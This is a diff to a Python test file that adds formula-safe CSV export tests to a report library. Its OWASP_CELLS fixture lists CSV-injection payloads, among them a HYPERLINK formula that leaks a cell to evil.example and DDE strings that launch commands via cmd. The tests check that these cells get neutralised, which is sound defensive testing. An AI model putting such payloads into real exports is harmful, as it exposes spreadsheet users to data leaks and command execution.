@@ -27,6 +27,7 @@ from ipsrules import (
 )
 from ipsrules._document import (
     CSS,
+    FORMULA_STARTS,
     Folded,
     GroupRow,
     KeyValues,
@@ -39,6 +40,7 @@ from ipsrules._document import (
     Style,
     escape_html,
     escape_markdown,
+    formula_safe,
     plain_text,
     records_to_csv,
     to_csv,
@@ -514,9 +516,12 @@ class TestMarkdownEntities:
 
 @given(st.text())
 def test_any_cell_survives_csv_and_is_never_unescaped_in_html(text: str) -> None:
-    """CSV reads the cell back as it was; HTML shows it as text and adds no element."""
+    """
+    CSV reads the cell back as it was (after the quote that keeps a formula from running);
+    HTML shows it as text and adds no element.
+    """
     (row,) = list(csv.reader(io.StringIO(to_csv(("cell",), [(text,)]), newline="")))[1:]
-    assert row == [text]
+    assert row == [formula_safe(text)]
 
     page = Document("t", "en", [Table(("cell",), [(text,)])]).to_html()
     parsed = parse(page)
@@ -538,3 +543,52 @@ def test_any_cell_keeps_a_markdown_table_in_shape(text: str) -> None:
 
 def test_to_json_of_a_report_is_valid_json() -> None:
     assert json.loads(_REPORT.to_json()) == _REPORT.to_dict()
+
+
+# --- formula-safe CSV (issue 17) -------------------------------------------------------
+
+OWASP_CELLS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",  # full-width equals sign
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(A1)",
+]
+
+
+@pytest.mark.parametrize("text", OWASP_CELLS)
+def test_a_text_cell_that_starts_a_formula_gets_a_quote(text: str) -> None:
+    written = to_csv(("id", "note"), [("P1", text)])
+    rows = list(csv.reader(io.StringIO(written)))
+    assert rows == [["id", "note"], ["P1", "'" + text]]
+
+
+def test_embedded_quotes_are_doubled_after_the_prefix() -> None:
+    written = to_csv(("note",), [('=HYPERLINK("a","b")',)])
+    assert written == 'note\n"\'=HYPERLINK(""a"",""b"")"\n'
+
+
+@pytest.mark.parametrize("text", ["P1", "a=b", " =1", "'=1", "2025-03-01", "", "x-1"])
+def test_other_text_is_written_as_it_is(text: str) -> None:
+    rows = list(csv.reader(io.StringIO(to_csv(("c",), [(text,)]))))
+    assert rows[1] == [text]
+
+
+def test_numbers_stay_numbers_and_their_sign_stays() -> None:
+    """A number that a report computed is written as a number: -3, not '-3."""
+    written = to_csv(("a", "b", "c"), [(-3, -0.5, "-3")])
+    assert written.splitlines()[1] == "-3,-0.5,'-3"
+
+
+@given(st.lists(st.text(), min_size=1, max_size=5))
+def test_no_text_cell_read_back_starts_a_formula(texts: list[str]) -> None:
+    """Read back, each cell is its text, with a quote in front exactly when it starts a formula."""
+    written = to_csv(tuple(f"c{index}" for index in range(len(texts))), [texts])
+    row = next(iter(list(csv.reader(io.StringIO(written, newline="")))[1:]))
+    assert row == [("'" + text if text.startswith(FORMULA_STARTS) else text) for text in texts]
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
